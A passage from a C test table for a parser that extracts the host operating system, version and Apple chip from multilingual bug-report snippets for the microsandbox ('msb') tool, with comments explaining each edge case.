	{ "O notebook tem Windows 10 Home, vers\u00e3o 2004, bem antigo.", "windows", "Windows 10 Home 2004",
	  NULL, NULL, NULL },
	{ "winver shows:\nWindows 11 Pro,\nVersion 24H2\n", "windows", "Windows 11 Pro 24H2", NULL, NULL, NULL },
	{ "Host: Windows 11 Home, 23H2 (the laptop from school).", "windows", "Windows 11 Home 23H2", NULL, NULL, NULL },
	/* ", version" followed by no Windows release: the edition alone */
	{ "Windows 11 Pro, version 22631 of the kernel image is what ver printed.", "windows", "Windows 11 Pro",
	  NULL, NULL, NULL },
	{ "Windows 11 Home, version 0.7.1 of msb from the MSI.", "windows", "Windows 11 Home", NULL, NULL, NULL },
	{ "Windows 10 Pro, version 10.0.19045.5247 per systeminfo.", "windows", "Windows 10 Pro",
	  "10.0.19045.5247", NULL, NULL },
	{ "Windows 11 Pro, Version 2 of the PoC is attached.", "windows", "Windows 11 Pro", NULL, NULL, NULL },
	{ "Build the sandbox from the repo; the report window shows 12 open windows.", NULL, NULL, NULL, NULL, NULL },
	/* localised and qualified Windows editions are kept as named, with the
	 * release after them (the word for "version" dropped in more
	 * languages); systeminfo's fields in the system's language (744) */
	{ "Sur le portable du labo (Windows 11 Famille, version 24H2), msb tourne en service.",
	  "windows", "Windows 11 Famille 24H2", NULL, NULL, NULL },
	{ "Poste : Windows 10 Professionnel 22H2, rien d'autre d'install\u00e9.",
	  "windows", "Windows 10 Professionnel 22H2", NULL, NULL, NULL },
	{ "Zuhause nutze ich Windows 10 Familienedition.",
	  "windows", "Windows 10 Familienedition", NULL, NULL, NULL },
	{ "El port\u00e1til viene con Windows 11 Hogar, versi\u00f3n 23H2, de f\u00e1brica.",
	  "windows", "Windows 11 Hogar 23H2", NULL, NULL, NULL },
	{ "Laptop s\u0142u\u017cbowy: Windows 11 Domowa, wersja 24H2.",
	  "windows", "Windows 11 Domowa 24H2", NULL, NULL, NULL },
	{ "It's a cheap OEM laptop with Windows 11 Home Single Language 23H2 preinstalled.",
	  "windows", "Windows 11 Home Single Language 23H2", NULL, NULL, NULL },
	{ "The render box runs Windows 11 Pro for Workstations, Version 24H2.",
	  "windows", "Windows 11 Pro for Workstations 24H2", NULL, NULL, NULL },
	{ "The kiosk PCs run Windows 10 Enterprise LTSC 2021 with msb as a service.",
	  "windows", "Windows 10 Enterprise LTSC 2021", NULL, NULL, NULL },
	{ "The hypervisor host is Windows Server 2022 Datacenter.",
	  "windows", "Windows Server 2022 Datacenter", NULL, NULL, NULL },
	{ "\u0420\u0430\u0431\u043e\u0447\u0430\u044f \u043c\u0430\u0448\u0438\u043d\u0430: Windows 11 \u041a\u043e\u0440\u043f\u043e\u0440\u0430\u0442\u0438\u0432\u043d\u0430\u044f, \u0432\u0435\u0440\u0441\u0438\u044f 23H2.",
	  "windows", "Windows 11 \u041a\u043e\u0440\u043f\u043e\u0440\u0430\u0442\u0438\u0432\u043d\u0430\u044f 23H2", NULL, NULL, NULL },
	{ "\u6d4b\u8bd5\u673a:Windows 11 \u4e13\u4e1a\u7248 \u7248\u672c 24H2",
	  "windows", "Windows 11 \u4e13\u4e1a\u7248 24H2", NULL, NULL, NULL },
	{ "Nom du syst\u00e8me d'exploitation:              Microsoft Windows 11 Famille\nVersion du syst\u00e8me:                         10.0.26100 N/A version 26100\n",
	  "windows", "Windows 11 Famille", "10.0.26100", NULL, NULL },
	{ "Betriebssystemname:                         Microsoft Windows 10 Pro\nBetriebssystemversion:                      10.0.19045 Nicht zutreffend Build 19045\n",
	  "windows", "Windows 10 Pro", "10.0.19045", NULL, NULL },
	{ "Nombre del sistema operativo:               Microsoft Windows 11 Hogar\nVersi\u00f3n del sistema operativo:              10.0.22631 N/D Compilaci\u00f3n 22631\n",
	  "windows", "Windows 11 Hogar", "10.0.22631", NULL, NULL },
	{ "C:\\Users\\ana> ver\n\nMicrosoft Windows [versi\u00f3n 10.0.22631.4602]\n\nEs un Windows 11 Hogar.\n",
	  "windows", "Windows 11 Hogar", "10.0.22631.4602", NULL, NULL },
	/* near misses: an edition word that is only a word in the sentence, a
	 * BIOS's or a file system's version beside systeminfo's labels */
	{ "J'ai test\u00e9 sous Windows 11 en famille, le soir.",
	  "windows", "Windows 11", NULL, NULL, NULL },
	{ "Mi equipo es Windows 11 Pro para uso personal.",
	  "windows", "Windows 11 Pro", NULL, NULL, NULL },
	{ "Version du BIOS:                            Dell Inc. 1.24.0, 12/08/2024\n",
	  NULL, NULL, NULL, NULL, NULL },
	{ "Version du syst\u00e8me de fichiers: 10.0.22631\n",
	  NULL, NULL, NULL, NULL, NULL },
	/* the macOS release after or before the word for "version" in any
	 * language, or after "macOS" as a line's label; not a floor */
	{ "Laptop: macOS version 15.2 on the M3 Air.",
	  "macos", NULL, NULL, "15.2", "Apple M3" },
	{ "Rechner: MacBook Pro M1 Pro, macOS-Version 14.7.2",
	  "macos", NULL, NULL, "14.7.2", "Apple M1 Pro" },
	{ "La versi\u00f3n de macOS es 15.0.1, en un Mac mini M4.",
	  "macos", NULL, NULL, "15.0.1", "Apple M4" },
	{ "Version de macOS : 13.7.1 (MacBook Air, puce M2)",
	  "macos", NULL, NULL, "13.7.1", "Apple M2" },
	{ "\u73af\u5883\uff1amacOS\u7248\u672c 14.5\uff0cM2 Max",
	  "macos", NULL, NULL, "14.5", "Apple M2 Max" },
	{ "Environment\n- msb: 0.10.2\n- macOS: 14.4.1\n",
	  "macos", NULL, NULL, "14.4.1", NULL },
	/* (#3) Homebrew's `brew config` joins the architecture to the number;
	 * another suffix is not read as the release */
	{ "HOMEBREW_PREFIX: /opt/homebrew\nCPU: octa-core 64-bit arm_blizzard_avalanche\nmacOS: 14.6.1-arm64\n",
	  "macos", NULL, NULL, "14.6.1", NULL },
	{ "Clang: 15.0.0 build 1500\nmacOS: 13.7-x86_64\nCLT: 15.3.0.0.1.1708646388\n",
	  "macos", NULL, NULL, "13.7", NULL },
	{ "macOS: 15.3-build24D60\n",
	  NULL, NULL, NULL, NULL, NULL },
	{ "The docs say msb needs macOS version 13 or later.",
	  NULL, NULL, NULL, NULL, NULL },
	{ "The macOS: 3 runners are idle.",
	  NULL, NULL, NULL, NULL, NULL },
	/* issue #3: the host in prose of another script: a distribution or a
	 * kernel release written straight after a label or a CJK word, a Mac
	 * and its chip with the words between them in that script */
	{ "\u6d4b\u8bd5\u673a\u5668\u662fFedora 41\uff0c\u5185\u68386.11.10-300.fc41.x86_64", "linux", "Fedora 41",
	  "6.11.10-300.fc41.x86_64", NULL, NULL },
	{ "Host:Debian 12, kernel 6.1.0-28-amd64", "linux", "Debian 12", "6.1.0-28-amd64", NULL, NULL },
	{ "\u05d4\u05de\u05d7\u05e9\u05d1 \u05e9\u05dc\u05d9: MacBook Air \u05e2\u05dd \u05e9\u05d1\u05d1 M2, macOS 15.3",
	  "macos", NULL, NULL, "15.3", "Apple M2" },
	{ "\u0631\u0648\u06cc MacBook Pro \u0628\u0627 \u062a\u0631\u0627\u0634\u0647 M1 Max \u0627\u062c\u0631\u0627 \u06a9\u0631\u062f\u0645",
	  "macos", NULL, NULL, NULL, "Apple M1 Max" },
	{ "MacBook Air \u0e23\u0e38\u0e48\u0e19 M2 \u0e04\u0e23\u0e31\u0e1a", "macos", NULL, NULL, NULL, "Apple M2" },
	{ "\u092e\u0947\u0930\u0947 MacBook \u092a\u0930 msb \u091a\u0932\u093e\u092f\u093e", "macos", NULL, NULL, NULL, NULL },
	{ "\u79c1\u305f\u3061\u306fMac mini runners\u3067\u30d3\u30eb\u30c9\u3057\u307e\u3059", NULL, NULL, NULL, NULL, NULL },
	{ "Image:ubuntu 22.04 is the guest; the host is Fedora 40.", "linux", "Fedora 40", NULL, NULL, NULL },
	/* issue #3: a writer who ran nothing names the machine he read the
	 * code on, not a host; a test on another system still leaves it */
	{ "Nothing of this was run: I haven't tried it yet, I only have my Mac mini here.", NULL, NULL, NULL, NULL, NULL },
	{ "Je n'ai pas test\u00e9, je lis le code sur mon MacBook Air.", NULL, NULL, NULL, NULL, NULL },
	{ "I haven't tested it on Linux yet; so far only on my MacBook Pro.", "macos", NULL, NULL, NULL, NULL },
	/* a pytest session header names the system the tests ran on; the
	 * word "platform" in prose does not */
	{ "$ pytest -q tests/\n===== test session starts =====\nplatform linux -- Python 3.11.9, pytest-8.2.0, pluggy-1.5.0\n",
	  "linux", NULL, NULL, NULL, NULL },
	{ "  platform darwin -- Python 3.13.0, pytest-8.3.4, pluggy-1.5.0\n  rootdir: /Users/me/proj\n",
	  "macos", NULL, NULL, NULL, NULL },
	{ "platform win32 -- Python 3.12.1, pytest-7.4.4, pluggy-1.3.0\n", "windows", NULL, NULL, NULL, NULL },
	{ "The platform linux -- as the docs call it -- is supported.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Our CI platform runs Python 3.12 on every push.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1529) a CI runner's banner: the "Operating System" group's name,
	 * release and LTS on lines of their own, with or without the log's
	 * timestamps; not the Runner Image group, nor prose */
	{ "2031-02-03T10:11:12.0000001Z ##[group]Operating System\n2031-02-03T10:11:12.0000002Z Ubuntu\n2031-02-03T10:11:12.0000003Z 20.04.6\n2031-02-03T10:11:12.0000004Z LTS\n2031-02-03T10:11:12.0000005Z ##[endgroup]\n",
	  "linux", "Ubuntu 20.04.6 LTS", NULL, NULL, NULL },
	{ "Set up job\n  Operating System\n    Debian GNU/Linux\n    12\n  Runner Image\n", "linux", "Debian GNU/Linux 12", NULL, NULL, NULL },
	{ "##[group]Runner Image\nImage: ubuntu-22.04\nVersion: 20310201.4.1\n##[endgroup]\n", NULL, NULL, NULL, NULL, NULL },
	{ "Which operating system\nUbuntu users pick\n20 of them said yes.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1530, 1533) a `kubectl get nodes -o wide` row: the OS-IMAGE and
	 * KERNEL-VERSION columns; not a row of `kubectl get pods` */
	{ "node-a   Ready    worker   41d   v1.30.2+k3s1   192.168.7.20   <none>        Rocky Linux 9.4 (Blue Onyx)   5.14.0-427.22.1.el9_4.x86_64   containerd://1.7.17-k3s1\n",
	  "linux", "Rocky Linux 9.4 (Blue Onyx)", "5.14.0-427.22.1.el9_4.x86_64", NULL, NULL },
	{ "aks-sys-1234-vmss000002   NotReady,SchedulingDisabled   agent   3h12m   v1.29.7   10.224.0.5   <none>   Azure Linux 2.0   5.15.164.1-1.cm2   containerd://1.7.15\n",
	  "linux", "Azure Linux 2.0", "5.15.164.1-1.cm2", NULL, NULL },
	{ "msb-runner-7c9f   1/1     Running   0          5m    10.0.3.14   node-a   <none>   <none>\n", NULL, NULL, NULL, NULL, NULL },
	/* issue #3: an installer's own "Detected platform" line names the
	 * host; a download's file name or prose about platforms does not */
	{ "$ sh install.sh\n==> Detected platform: linux-aarch64\n==> Installing to ~/.local/bin\n", "linux", NULL, NULL, NULL, NULL },
	{ "info: detected OS: darwin/arm64\n", "macos", NULL, NULL, NULL, NULL },
	{ "Downloading msb-0.7.2-linux-x86_64.tar.gz from the mirror\n", NULL, NULL, NULL, NULL, NULL },
	{ "The script has detected platform problems on Linux for years.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1686) microsandbox's own SDK names the system it runs on in its
	 * User-Agent, as a Node platform-arch pair or in parentheses: the
	 * host's "os" alone; not another program's agent, a tarball's name,
	 * nor an SDK agent with no system token */
	{ "    at request (file:///srv/app/node_modules/microsandbox/dist/http.js:88:11)\n  headers: { 'user-agent': 'microsandbox-node/0.11.2 node/v22.3.0 linux-arm64' }\n",
	  "linux", NULL, NULL, NULL, NULL },
	{ "> User-Agent: microsandbox-python/0.9.9 (Darwin; arm64) httpx/0.27.2\n", "macos", NULL, NULL, NULL, NULL },
	{ "user-agent=microsandbox-node/0.10.1 node/v18.20.4 win32-x64\n", "windows", NULL, NULL, NULL, NULL },
	{ "user-agent: got/14.4.2 node/v22.3.0 linux-x64\n", NULL, NULL, NULL, NULL, NULL },
	{ "Fetched microsandbox-node-0.10.8-linux-x64.tgz from the registry mirror.\n", NULL, NULL, NULL, NULL, NULL },
	{ "\"user-agent\": \"microsandbox-python/0.10.2 httpx/0.28.1\"\nThe SDK docs list linux and darwin builds.\n", NULL, NULL, NULL, NULL, NULL },
	/* issue #3: a distribution without a release as the writer's own
	 * machine ("my Debian laptop") or with a Hinglish postposition and a
	 * verb of running after it; not a package or an image of it */
	{ "My Debian laptop hangs when the guest writes this file.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "Maine ye Fedora par chalaya aur crash ho gaya.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "Sab kuch Debian mein run kiya tha.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "Ubuntu pe bhi ye package available hai.\n", NULL, NULL, NULL, NULL, NULL },
	/* round 107/108 (1258, 1269): the machine said to be a distribution
	 * as the sentence's last word, in Turkish, German, Spanish, French and
	 * English, and the possessive written in Hinglish; not the guest or an
	 * image said to be one, a base or a tag after the name, a machine
	 * that is not one, nor a Hinglish possessive of an image */
	{ "Laboratuvardaki makineyi dün kurduk.\nBilgisayarım Fedora.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "Der Build-Rechner ist Debian.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "Lo probé en casa; el servidor es Ubuntu.\n", "linux", "Ubuntu", NULL, NULL, NULL },
	{ "Chez nous le serveur est sous Fedora.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "Sunucumuz Debian'dır, msb orada çalışıyor.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "Bug hamara debian server pe aata hai, laptop pe nahi.\n", "linux", "debian", NULL, NULL, NULL },
	{ "The guest is Ubuntu.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Our build server is Ubuntu-based, the details differ.\n", NULL, NULL, NULL, NULL, NULL },
	{ "The sandbox image on that server is ubuntu:24.04.\n", NULL, NULL, NULL, NULL, NULL },
	{ "The server is not Ubuntu.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Maine humara ubuntu image push kiya registry mein.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1571) the machines in the plural, the distribution in lower case
	 * with a hedge after it, and Arch with its users' "btw"; not a fedora
	 * hat, "arch" as a word of another kind, the guest, or an image */
	{ "the library pcs are ubuntu iirc\n", "linux", "ubuntu", NULL, NULL, NULL },
	{ "the department servers run debian i believe, so that's where i tried it\n", "linux", "debian", NULL, NULL, NULL },
	{ "tested at home, i'm on arch btw\n", "linux", "arch", NULL, NULL, NULL },
	{ "Somebody left a fedora on the desk, i think it's the lecturer's.\n", NULL, NULL, NULL, NULL, NULL },
	{ "the boxes are arm64 probably, not sure\n", NULL, NULL, NULL, NULL, NULL },
	{ "the guest is debian i think\n", NULL, NULL, NULL, NULL, NULL },
	{ "our servers are debian-based containers i think\n", NULL, NULL, NULL, NULL, NULL },
	{ "the build arch btw is arm64\n", NULL, NULL, NULL, NULL, NULL },
	/* (1576) msb run in a VM on the writer's computer: the VM's Linux is
	 * the platform, even against more fields of the machine around it;
	 * not a VM the writer also has while msb runs natively, nor the guest
	 * microsandbox itself starts */
	{ "The PC has Windows 10 Home; I use Debian 12 inside VMware Player to run msb.\n", "linux", "Debian 12", NULL, NULL, NULL },
	{ "Laptop: Windows 11 Pro 23H2 (10.0.22631.4460). We run microsandbox in a Fedora 41 VM under Hyper-V.\n",
	  "linux", "Fedora 41", NULL, NULL, NULL },
	{ "MacBook Air, macOS 15.1 on the M2. msb is installed in an Ubuntu 24.04 VM in Parallels.\n",
	  "linux", "Ubuntu 24.04", NULL, NULL, NULL },
	{ "Windows 11 Pro 23H2 (10.0.22631.4460). There is also an Ubuntu 22.04 VM in VirtualBox, but msb runs natively on Windows.\n",
	  "windows", "Windows 11 Pro 23H2", "10.0.22631.4460", NULL, NULL },
	{ "My desktop is Windows 11 Pro. msb starts the code in a VM whose guest is Ubuntu 24.04.\n", "windows", "Windows 11 Pro", NULL, NULL, NULL },
	{ "Windows 11 Home laptop. I keep Ubuntu 24.04 in VirtualBox, not for microsandbox, just for homework.\n",
	  "windows", "Windows 11 Home", NULL, NULL, NULL },
	{ "Our Ubuntu images ship an old openssl.\n", NULL, NULL, NULL, NULL, NULL },
	/* issue #3: the Mac tools that run a Linux VM (Lima, Colima,
	 * OrbStack) and WSL named as where msb and its SDK run, and a writer
	 * who says msb does not run on the computer itself: the Linux inside
	 * is the platform; not OrbStack named as ruled out, nor WSL the writer
	 * only has beside a native msb */
	{ "Mac mini M2, macOS 14.7.2. msb runs inside a Colima VM there:\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n",
	  "linux", "Debian GNU/Linux 12 (bookworm)", NULL, NULL, NULL },
	{ "Work laptop: Windows 11 Pro 24H2, OS build 26100.2605.\nmsb and the Python SDK run in WSL 2 with Debian 12.\n",
	  "linux", "Debian 12", NULL, NULL, NULL },
	{ "Hardware is an iMac M1 on macOS 15.2, but we do not run microsandbox on the Mac\ndirectly; "
	  "the box it uses is Fedora 41 (kernel 6.12.5-200.fc41.aarch64).\n",
	  "linux", "Fedora 41", "6.12.5-200.fc41.aarch64", NULL, NULL },
	{ "macOS 15.2 on an M4. I tried Fedora 41 in OrbStack once; msb runs natively on the Mac, not inside OrbStack.\n",
	  "macos", NULL, NULL, "15.2", "Apple M4" },
	{ "Windows 11 Pro 23H2 (10.0.22631.4460), msb from winget. I also keep Ubuntu 22.04 in WSL2 for other work.\n",
	  "windows", "Windows 11 Pro 23H2", "10.0.22631.4460", NULL, NULL },
	/* a value the writer takes back at once gives way to the one after
	 * it, also after an ellipsis that goes on in lower case; a value with
	 * no correction after it, or an ellipsis that goes on otherwise, stays */
	{ "Host: macOS Sequoia 15.1 on a Mac Studio with the M1 Max... actually it's an M2 Max, the M1 is at home.\n",
	  "macos", NULL, NULL, "15.1", "Apple M2 Max" },
	{ "Host: Fedora 40, I mean Fedora 41, kernel 6.11.4-301.fc41.x86_64\n", "linux", "Fedora 41",
	  "6.11.4-301.fc41.x86_64", NULL, NULL },
	{ "Ubuntu 22.04 -- actually it's Ubuntu 24.04.1 LTS -- with kernel 6.8.0-49-generic.\n", "linux",
	  "Ubuntu 24.04.1 LTS", "6.8.0-49-generic", NULL, NULL },
	{ "macOS 15.1 on my MacBook Air M2. It actually is fast.\n", "macos", NULL, NULL, "15.1", "Apple M2" },
	{ "macOS 15.1 on an M3 Pro... and it reproduces every time.\n", "macos", NULL, NULL, "15.1", "Apple M3 Pro" },
	/* issue #3: full-width and ideographic punctuation (a CJK input
	 * method's parentheses, commas and colons) reads as its ASCII form;
	 * the ASCII forms read as before, and a chip in parentheses after no
	 * Mac is still none */
	{ "\xe7\x92\xb0\xe5\xa2\x83\xef\xbc\x9amacOS 14.6\xe3\x80\x81Mac mini\xef\xbc\x88M2 Pro\xef\xbc\x89\n",
	  "macos", NULL, NULL, "14.6", "Apple M2 Pro" },
	{ "macOS 13.7\xef\xbc\x8ciMac\xef\xbc\x88M1\xef\xbc\x89\xe3\x81\xa7\xe7\xa2\xba\xe8\xaa\x8d\n",
	  "macos", NULL, NULL, "13.7", "Apple M1" },
	{ "macOS 13.7, iMac (M1)\n", "macos", NULL, NULL, "13.7", "Apple M1" },
	/* (1207) the screen size after the model, the word for inch joined
	 * or not, before the chip; an iPad's chip is no Mac's */
	{ "Setup: MacBook Air 13inch, M2, macOS 14.7\n", "macos", NULL, NULL, "14.7", "Apple M2" },
	{ "Host is a MacBook Pro 16-inch M4 Max with macOS 15.2.\n", "macos", NULL, NULL, "15.2", "Apple M4 Max" },
	{ "MacBook Pro 14 Zoll, M3 Pro, macOS 15.1\n", "macos", NULL, NULL, "15.1", "Apple M3 Pro" },
	{ "MacBook Pro 14\xe3\x82\xa4\xe3\x83\xb3\xe3\x83\x81 M1 Max / macOS 14.4\n", "macos", NULL, NULL, "14.4", "Apple M1 Max" },
	{ "macOS 15.1 here; my iPad Pro 13-inch, M4 is not involved.\n", "macos", NULL, NULL, "15.1", NULL },
	{ "macOS 15.1 on a MacBook Pro 14inch, 2021.\n", "macos", NULL, NULL, "15.1", NULL },
	/* (1230) the chip before a Mac with the particle for "of" in
	 * Japanese, Chinese or Korean; an iPad's chip is no Mac's */
	{ "\xe9\x96\x8b\xe7\x99\xba\xe6\xa9\x9f\xe3\x81\xaf M3 Pro \xe3\x81\xae MacBook Pro \xe3\x81\xa7\xe3\x81\x99\xe3\x80\x82\n", "macos", NULL, NULL, NULL, "Apple M3 Pro" },
	{ "\xe6\x88\x91\xe7\x94\xa8\xe7\x9a\x84\xe6\x98\xaf M2 \xe6\xac\xbe MacBook Air\xe3\x80\x82\n", "macos", NULL, NULL, NULL, "Apple M2" },
	{ "M1 \xeb\xa7\xa5\xeb\xb6\x81 \xec\x97\x90\xec\x96\xb4\xec\x97\x90\xec\x84\x9c \xec\x9e\xac\xed\x98\x84\xed\x96\x88\xec\x8a\xb5\xeb\x8b\x88\xeb\x8b\xa4.\n", "macos", NULL, NULL, NULL, "Apple M1" },
	{ "\xe4\xbc\x9a\xe7\xa4\xbe\xe3\x81\xae M4 Max\xe6\x90\xad\xe8\xbc\x89 MacBook Pro \xe3\x81\xa7\xe7\xa2\xba\xe8\xaa\x8d\xe3\x81\x97\xe3\x81\xbe\xe3\x81\x97\xe3\x81\x9f\xe3\x80\x82\n", "macos", NULL, NULL, NULL, "Apple M4 Max" },
	{ "M4 \xe3\x81\xae iPad Pro \xe3\x81\xa7\xe3\x82\x82\xe8\xa9\xa6\xe3\x81\x97\xe3\x81\xbe\xe3\x81\x97\xe3\x81\x9f\xe3\x80\x82\n", NULL, NULL, NULL, NULL, NULL },
	{ "M2 \xec\x9d\x98 \xec\x95\x84\xec\x9d\xb4\xed\x8c\xa8\xeb\x93\x9c \xec\x97\x90\xec\x96\xb4\xec\x97\x90\xec\x84\x9c\xeb\x8a\x94 \xed\x95\xb4\xeb\xb3\xb4\xec\xa7\x80 \xec\x95\x8a\xec\x95\x98\xec\x8a\xb5\xeb\x8b\x88\xeb\x8b\xa4.\n", NULL, NULL, NULL, NULL, NULL },
	{ "\xe3\x83\x86\xe3\x82\xb9\xe3\x83\x88\xef\xbc\x88M2\xef\xbc\x89\xe3\x82\x92\xe5\xae\x9f\xe8\xa1\x8c\n", NULL, NULL, NULL, NULL, NULL },
	/* (1617) the Mac in parentheses after the chip, in a sentence of any
	 * language (Taglish here): macOS and the chip, no release; an iPad
	 * or anything else in the parentheses is no Mac */
	{ "Ginawa ko ito sa laptop ko, M2 (MacBook Pro), pero walang sw_vers.\n", "macos", NULL, NULL, NULL, "Apple M2" },
	{ "Lo prob\xc3\xa9 en casa: M4 Pro (Mac mini).\n", "macos", NULL, NULL, NULL, "Apple M4 Pro" },
	{ "Also tried M4 (iPad Air), same result.\n", NULL, NULL, NULL, NULL, NULL },
	{ "The M2 (the second mount) is read-only.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1646) the chip as an item of a terse environment list beside macOS,
	 * before or after it; an M.2 drive or an M1-something is no chip */
	{ "msb 0.10.4 / macOS 15.3 / M3 Max\n", "macos", NULL, NULL, "15.3", "Apple M3 Max" },
	{ "env: M1 Pro, macOS 14.7.2, msb 0.9.8\n", "macos", NULL, NULL, "14.7.2", "Apple M1 Pro" },
	{ "Host: macOS Sonoma | Apple M2\n", "macos", NULL, NULL, "Sonoma", "Apple M2" },
	{ "macOS 15.2, M.2 NVMe external disk\n", "macos", NULL, NULL, "15.2", NULL },
	{ "macOS 14.6; M1-optimised wheels only\n", "macos", NULL, NULL, "14.6", NULL },
	/* (#3) the chip named as what the chip or processor is, in a reply
	 * that adds it; a chip word with no M-series name after "is", or a
	 * sentence that ends before one, names no chip */
	{ "Oh and I left out the chip: it's an M4 Max (16-inch).\n", "macos", NULL, NULL, NULL, "Apple M4 Max" },
	{ "The processor is an Apple M2, 24 GB of memory.\n", "macos", NULL, NULL, NULL, "Apple M2" },
	{ "The chip shortage is why we have so few test boxes.\n", NULL, NULL, NULL, NULL, NULL },
	{ "CPU load is fine. M3 of the milestones is done.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1369) Catalan: "amb" (with) and "xip" (chip) */
	{ "L'he reproduït en un Mac mini amb M4 Pro.\n", "macos", NULL, NULL, NULL, "Apple M4 Pro" },
	{ "El portàtil té un xip M3 Max i macOS 15.3.\n", "macos", NULL, NULL, "15.3", "Apple M3 Max" },
	{ "El servidor t\xc3\xa9" " discos amb xip M.2 NVMe.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1372) a distribution's name declined in a Slavic sentence: the
	 * name as written in the nominative, with its release */
	{ "Testirao sam na Fedori 41, kernel 6.11.4-301.fc41.x86_64.\n", "linux", "Fedora 41", "6.11.4-301.fc41.x86_64", NULL, NULL },
	{ "Reprodukowa\xc5\x82" "em to na Debianie 12 z msb 0.10.4.\n", "linux", "Debian 12", NULL, NULL, NULL },
	{ "Chybu jsem ov\xc4\x9b\xc5\x99" "il po p\xc5\x99" "echodu na Fedoru 40.\n", "linux", "Fedora 40", NULL, NULL, NULL },
	{ "Fedorin paket 0.10.6 je u repozitoriju 42 dana.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Fedorov 12 odgovora na forumu.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Server je na CentOS-u 9 Stream.\n", "linux", "CentOS 9", NULL, NULL, NULL },
	/* (1538, 1552) the machines a team runs msb on, the distribution
	 * named before their kind (also across a line break); not the edition
	 * "Ubuntu Server", an image built for such nodes, an image's name */
	{ "We deploy it on GKE with Container-Optimized OS nodes.\n", "linux", "Container-Optimized OS", NULL, NULL, NULL },
	{ "The CLI is called from our Debian build\nagents, if it matters.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "msb sits on three Rocky Linux worker nodes in the rack.\n", "linux", "Rocky Linux", NULL, NULL, NULL },
	{ "We build Ubuntu node images with Packer for customers.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Download Ubuntu Server and boot it in the VM.\n", NULL, NULL, NULL, NULL, NULL },
	{ "image: acme/ubuntu-agent:2.1\n", NULL, NULL, NULL, NULL, NULL },
	{ "Debian servers' packages are signed differently.\n", NULL, NULL, NULL, NULL, NULL },
	/* (#3) the writer's machine named first, then said to be a Mac: os
	 * alone; not a Mac runner, not the MAC address */
	{ "I run the notebooks on my company laptop, a MacBook Pro, with conda.\n", "macos", NULL, NULL, NULL, NULL },
	{ "Tested from our office desktop (an iMac) and nothing else.\n", "macos", NULL, NULL, NULL, NULL },
	{ "My dev box is a Mac mini under the desk.\n", "macos", NULL, NULL, NULL, NULL },
	{ "Our build box, a Mac runner rented by the hour, does the release.\n", NULL, NULL, NULL, NULL, NULL },
	{ "My laptop: MAC address randomisation is on.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1499) Macs several people share, or "the same Mac" two accounts are
	 * on, in other languages too; not Mac runners, not the MAC address */
	{ "Our school has a room of shared Macs and any student can log in to any of them.\n", "macos", NULL, NULL, NULL, NULL },
	{ "Zwei Konten auf demselben Mac reichen daf\xc3\xbcr.\n", "macos", NULL, NULL, NULL, NULL },
	{ "Sur les Mac partag\xc3\xa9s du labo, msb est install\xc3\xa9.\n", "macos", NULL, NULL, NULL, NULL },
	{ "Basta con dos cuentas en el mismo Mac.\n", "macos", NULL, NULL, NULL, NULL },
	{ "We rent shared Mac runners for CI.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Every sandbox gets the same MAC address.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1534) a job of the writer's workflow that runs msb on a hosted
	 * runner's label: os alone; not a job without msb, nor the next job */
	{ "jobs:\n  e2e:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n"
	  "      - uses: superradcompany/setup-msb@v1\n      - run: msb run node:22 -- npm test\n",
	  "linux", NULL, NULL, NULL, NULL },
	{ "jobs:\n  t:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: ./install.sh && msb run alpine -- id\n",
	  "linux", NULL, NULL, NULL, NULL },
	{ "jobs:\n  bench:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: cargo bench\n",
	  NULL, NULL, NULL, NULL, NULL },
	{ "jobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo clippy\n  mac:\n    runs-on: self-hosted\n"
	  "    steps:\n      - run: msb run alpine -- true\n", NULL, NULL, NULL, NULL, NULL },
	/* (1758) the host told in another language without a release: the
	 * writer's machine with the distribution, or the writer using it or
	 * running on it; not the guest's image, nor an image of it */
	{ "El fallo aparece en mi portátil de trabajo con Debian, no en el de casa.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "En casa uso Fedora y ahí también pasa.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "El daemon corre sobre Ubuntu en una VPS barata.\n", "linux", "Ubuntu", NULL, NULL, NULL },
	{ "Sur mon portable sous Fedora, le dossier partagé reste lisible.\n", "linux", "Fedora", NULL, NULL, NULL },
	{ "Bei uns läuft msb unter Debian, und der Fehler tritt jedes Mal auf.\n", "linux", "Debian", NULL, NULL, NULL },
	{ "Aqui o msb roda no Ubuntu de um servidor alugado.\n", "linux", "Ubuntu", NULL, NULL, NULL },
	{ "El sandbox arranca con la imagen de Ubuntu dentro del sandbox y nada más.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Para el sandbox uso ubuntu:22.04 como imagen base.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Dentro del sandbox uso Ubuntu como imagen, el host no lo sé.\n", NULL, NULL, NULL, NULL, NULL },
	{ "Construimos una imagen basada en Debian para los alumnos.\n", NULL, NULL, NULL, NULL, NULL },
	/* (1760) "arch" in lower case at the end of a terse line, after the
	 * writer or msb's version: the distribution; "arch" as the
	 * architecture is none */
